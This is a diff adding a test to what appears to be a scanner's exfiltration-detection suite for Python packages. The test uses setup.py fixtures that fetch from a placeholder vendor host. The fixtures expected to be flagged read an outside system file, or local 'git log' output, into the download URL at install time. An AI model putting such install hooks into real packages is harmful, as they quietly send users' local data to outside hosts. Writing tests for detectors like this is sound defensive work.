@@ -1073,3 +1073,38 @@ test('what curl is set up with leaves when it performs', async () => {
   );
   expect(await inspect('exfiltration', file("'http://127.0.0.1:9000/x'"))).toEqual([]);
 });
+
+test('a version that a build reads from its own file, or asks a public repository for, is nothing of this machine', async () => {
+  const asking = (...lines: string[]): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      sdist({
+        'setup.py': python(
+          'import json, pathlib, subprocess, urllib.request',
+          'from setuptools import setup',
+          ...lines,
+          "urllib.request.urlretrieve(f'https://library.vendor.invalid/{version}.tar.gz', 'library.tar.gz')",
+          'setup()',
+        ),
+        'state/record.json': '{"version": "1.2"}',
+      }),
+    );
+
+  expect(
+    await asking(
+      "record = pathlib.Path(__file__).resolve().parents[0] / 'state' / 'record.json'",
+      "version = json.load(open(record))['version']",
+    ),
+  ).toEqual([]);
+  expect(
+    await asking(
+      "version = subprocess.run(['git', 'ls-remote', '--tags', 'https://github.com/example/library.git'], capture_output=True).stdout.decode()",
+    ),
+  ).toEqual([]);
+  expect(await asking("version = json.load(open('/var/lib/other/record.json'))['version']")).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+  expect(await asking("version = subprocess.run(['git', 'log'], capture_output=True).stdout.decode()")).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+});
